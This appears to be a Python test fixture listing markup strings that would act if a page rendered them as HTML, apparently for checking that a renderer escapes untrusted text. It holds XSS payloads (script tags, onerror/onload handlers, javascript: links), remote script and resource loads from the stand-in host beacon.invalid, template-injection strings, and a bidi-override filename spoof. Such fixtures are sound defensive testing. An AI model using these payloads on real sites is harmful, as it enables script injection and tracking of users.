"""Texts that want to be more than text: each would do something if the page read it as markup."""

BEACON = "http://beacon.invalid/x"

PAYLOADS = [
    "<script>alert(1)</script>",
    '<script src="http://beacon.invalid/x"></script>',
    "<img src=http://beacon.invalid/x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=9 /></svg>",
    "<svg><image href='http://beacon.invalid/x'/></svg>",
    "<iframe src='http://beacon.invalid/x'></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=http://beacon.invalid/x></object>",
    "<embed src=http://beacon.invalid/x>",
    "<video src=http://beacon.invalid/x autoplay></video>",
    "<audio src=http://beacon.invalid/x autoplay></audio>",
    "<link rel=stylesheet href=http://beacon.invalid/x>",
    "<style>body{background:url(http://beacon.invalid/x)}</style>",
    "<style>@import 'http://beacon.invalid/x';</style>",
    "<div style='position:fixed;inset:0;background:url(http://beacon.invalid/x)'>over all</div>",
    "<form action=http://beacon.invalid/x><input name=q autofocus><button>Send</button></form>",
    '<a href="javascript:alert(1)">press</a>',
    "<base href=http://beacon.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://beacon.invalid/x'>",
    "</script></style></textarea></title><script>alert(1)</script>",
    '\'" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "<button data-do=open data-turn=0 data-label=1>[1]</button>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "![beacon](http://beacon.invalid/x)",
    "[press](javascript:alert(1))",
    "<http://beacon.invalid/x> www.beacon.invalid https://beacon.invalid/x",
    "```mermaid\ngraph TD; A[<img src=http://beacon.invalid/x>]\n```",
    "$$\\href{http://beacon.invalid/x}{x}$$ \\(\\frac{1}{2}\\) $x^2$",
    "${alert(1)} `${alert(1)}` {{alert(1)}} {{{constructor.constructor('alert(1)')()}}}",
    "**bold** __bold__ *italic* ~~gone~~ # heading | a | b |",
    "&lt;b&gt; &amp; &#60;script&#62; &nbsp;",
    "<!-- --> <![CDATA[ <b>x</b> ]]> <?php echo 1 ?>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
]

REORDERING = "safe \u202egnp.exe\u202c \u2066left\u2069 end"
CONTROLS = "bell \x07, escape \x1b[31m, null \x00, del \x7f, c1 \x9b, lone \ud800, cr \r\nnext"
